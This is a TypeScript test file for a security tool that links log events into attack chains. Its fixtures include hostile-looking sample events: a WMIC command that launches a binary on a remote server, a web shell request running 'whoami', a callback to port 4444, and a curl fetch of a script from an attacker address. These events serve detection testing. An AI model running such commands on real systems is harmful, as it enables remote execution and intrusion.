import { loadAttackCatalog } from '../attack';
import type { CanonicalEvent } from '../model';
import { buildChains, machineAliases } from './chains';
import { makeSignal } from './signal';
import { event, lookupOf } from './testing/events';

const catalog = loadAttackCatalog();

function logonFrom(i: number, ip: string, workstation: string): CanonicalEvent {
  return event(i, '2026-06-01T10:00:00Z', { format: 'windows', action: 'logon', outcome: 'success', fields: { EventID: 4624, LogonType: 3 }, entities: { user: 'CORP\\svc_sql', srcIp: ip, srcHost: workstation, host: 'FS-02' } });
}

function onHost(i: number, host: string): CanonicalEvent {
  return event(i, '2026-06-01T10:30:00Z', { format: 'sysmon', action: 'process_create', entities: { user: 'CORP\\mkay', host, process: 'C:\\Users\\mkay\\AppData\\Local\\Temp\\r.exe' } });
}

function chainsOf(events: CanonicalEvent[]) {
  const lookup = lookupOf(events);
  const signals = events.map((e) => makeSignal('detection', `d${e.index}`, { id: `r${e.index}`, title: 'Test', level: 'high', tags: ['attack.execution', 'attack.t1204.002'] }, [e.index], lookup, catalog));
  return buildChains(events, signals, catalog);
}

describe('one machine named by address and by name', () => {
  it('joins what a workstation did as a logon source with what happened on it', () => {
    const events = [logonFrom(0, '10.10.5.23', 'WS-044'), onHost(1, 'ws-044.corp.example')];
    expect(machineAliases(events).get('host:ws-044')).toBe('ip:10.10.5.23');
    expect(chainsOf(events)).toHaveLength(1);
  });

  it('does not join when the address names several workstations (NAT, DHCP churn)', () => {
    const events = [logonFrom(0, '10.10.5.23', 'WS-044'), logonFrom(2, '10.10.5.23', 'WS-051'), onHost(1, 'WS-044')];
    expect(machineAliases(events).size).toBe(0);
    expect(chainsOf(events).length).toBeGreaterThan(1);
  });
});

describe('commands run against another machine', () => {
  it('join the chain of what happens on that machine', () => {
    const wmic = event(0, '2026-06-01T10:00:00Z', { format: 'sysmon', action: 'process_create', entities: { user: 'CORP\\mkay', host: 'WS-07', process: 'C:\\Windows\\System32\\wbem\\WMIC.exe', commandLine: 'wmic /node:FS-02 process call create "cmd /c c:\\perflogs\\r.exe"' } });
    const there = event(1, '2026-06-01T10:00:05Z', { format: 'sysmon', action: 'process_create', entities: { user: 'CORP\\svc_files', host: 'fs-02.corp.example', process: 'C:\\perflogs\\r.exe' } });
    expect(chainsOf([wmic, there])).toHaveLength(1);
    const local = { ...wmic, entities: { ...wmic.entities, commandLine: 'wmic process list brief' } };
    expect(chainsOf([local, there])).toHaveLength(2);
  });
});


describe('an internal server attacked, then calling out', () => {
  it('joins requests to the server with its own outbound connection, and names the destination among the chain entities', () => {
    const request = event(0, '2026-05-11T02:14:02Z', { format: 'web_access', action: 'http_request', outcome: 'success', entities: { srcIp: '203.0.113.77', dstIp: '10.1.2.30', url: '/shell.aspx?cmd=whoami' } });
    const callback = event(1, '2026-05-11T02:15:10Z', { format: 'firewall', action: 'network_connection', outcome: 'success', entities: { srcIp: '10.1.2.30', dstIp: '45.155.205.233', dstPort: 4444 } });
    const other = event(2, '2026-05-11T02:15:20Z', { format: 'firewall', action: 'network_connection', outcome: 'success', entities: { srcIp: '10.1.2.99', dstIp: '91.215.85.17', dstPort: 4444 } });
    const chains = chainsOf([request, callback, other]);
    expect(chains).toHaveLength(2);
    const main = chains.find((c) => c.signals.length === 2)!;
    expect(main.chain.entities).toEqual(expect.arrayContaining(['ip:203.0.113.77', 'ip:45.155.205.233']));
  });
});

describe('a download from the attacker', () => {
  it('joins the chain of the logon that attacker address made, even without a shared host or user', () => {
    const logon = event(0, '2026-03-14T03:12:12Z', { format: 'syslog', action: 'logon', outcome: 'success', entities: { user: 'deploy', srcIp: '194.26.29.113', host: 'web-02' } });
    const fetch = event(1, '2026-03-14T03:13:00Z', { format: 'auditd', action: 'process_create', entities: { process: 'curl', commandLine: 'curl -s http://194.26.29.113/x.sh' } });
    const unrelated = event(2, '2026-03-14T03:13:05Z', { format: 'auditd', action: 'process_create', entities: { process: 'curl', commandLine: 'curl -s https://packages.example.org/key.gpg' } });
    expect(chainsOf([logon, fetch, unrelated]).map((c) => c.eventIndices.slice().sort())).toEqual(expect.arrayContaining([[0, 1], [2]]));
  });
});
